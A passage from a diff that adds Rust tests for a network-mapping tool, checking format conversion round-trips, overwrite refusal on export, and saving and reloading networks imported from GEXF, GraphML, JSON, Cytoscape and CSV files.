+        assert_eq!(back.entities, before.entities, "{ending}");
+        assert_eq!(back.ties, before.ties, "{ending}");
+        assert_eq!(sorted(back).sources, sorted(before).sources, "{ending}");
+    }
+    let unknown = convert(&original, &folder.path().join("x.png"), Overwrite::Replace);
+    assert!(
+        matches!(unknown, Err(ConvertError::UnknownOutputFormat { .. })),
+        "{unknown:?}"
+    );
+}
+
+#[test]
+fn export_refuses_to_replace_unless_asked() {
+    let folder = tempfile::tempdir().expect("tempdir");
+    let path = folder.path().join("map.gexf");
+    let network = default_network();
+    export_network(&network, ExportFormat::Gexf, &path, Overwrite::Refuse).expect("new file");
+    let refused = export_network(&network, ExportFormat::Gexf, &path, Overwrite::Refuse);
+    assert!(
+        matches!(refused, Err(ExportError::Save(SaveError::Exists { .. }))),
+        "{refused:?}"
+    );
+    export_network(&network, ExportFormat::GraphMl, &path, Overwrite::Replace).expect("replace");
+    assert!(
+        std::fs::read_to_string(&path)
+            .expect("read")
+            .contains("<graphml")
+    );
+}
+
+#[test]
+fn imported_networks_save_and_load_as_powermap_files() {
+    let folder = tempfile::tempdir().expect("tempdir");
+    for name in [
+        "gephi-1.2.gexf",
+        "dynamic-1.2.gexf",
+        "dynamic-1.3.gexf",
+        "gephi.graphml",
+        "yed.graphml",
+        "graph-tool.graphml",
+        "d3-index.json",
+        "networkx-ids.json",
+        "cytoscape-object.cyjs",
+        "cytoscape-array.json",
+        "csv-euc-kr/edges.csv",
+    ] {
+        let imported = import(name);
+        let path = folder.path().join("saved.json");
+        save_network(&imported.network, &path, Overwrite::Replace).expect("save");
+        let loaded = load_file(&path).unwrap_or_else(|err| panic!("{name}: {err}"));
+        assert_eq!(loaded.network, imported.network, "{name}");
+        assert!(
+            loaded
+                .warnings
+                .iter()
+                .all(|w| w.message.contains("evidence")),
+            "{name}: {:?}",
+            loaded.warnings
+        );
+    }
+}
